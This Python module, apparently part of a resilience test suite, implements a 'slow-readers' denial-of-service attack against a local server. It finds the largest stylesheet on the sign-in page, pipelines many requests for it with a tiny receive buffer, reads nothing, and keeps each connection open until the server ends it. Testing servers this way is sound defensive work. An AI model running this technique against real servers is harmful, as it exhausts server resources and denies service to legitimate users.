"""Connections that ask for a large file again and again and read nothing of it."""

from __future__ import annotations

import http.client
import re
import socket
import time
from collections import Counter

from . import Target, attack

PATIENCE = 10
ASKED = 20
"""How often in one go: more than the buffers between the two can hold."""
SMALL = 4096
PAUSE = 1.0


@attack("slow-readers")
def read_nothing(target: Target) -> Counter[str]:
    """One connection after the other, each until the server ends it; no status is known."""
    answers: Counter[str] = Counter()
    while not target.is_over:
        try:
            answers[_ask_and_wait(target)] += 1
        except OSError as error:
            answers[type(error).__name__] += 1
    return answers


def _ask_and_wait(target: Target) -> str:
    request = f"GET {stylesheet(target.port)} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
    with socket.socket() as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL)
        connection.settimeout(PATIENCE)
        connection.connect(("127.0.0.1", target.port))
        connection.sendall(ASKED * request)
        while not target.is_over:
            time.sleep(PAUSE)
            connection.send(b"\r\n")  # an error tells that the server has ended it
    return "open"


def stylesheet(port: int) -> str:
    """The path of the largest file that anybody may ask for."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE)
    connection.request("GET", "/sign-in")
    page = connection.getresponse().read().decode()
    connection.close()
    found = re.search(r'/static/[^"]+/vendor/tabler-[^"]+\.css', page)
    assert found, page
    return found[0]
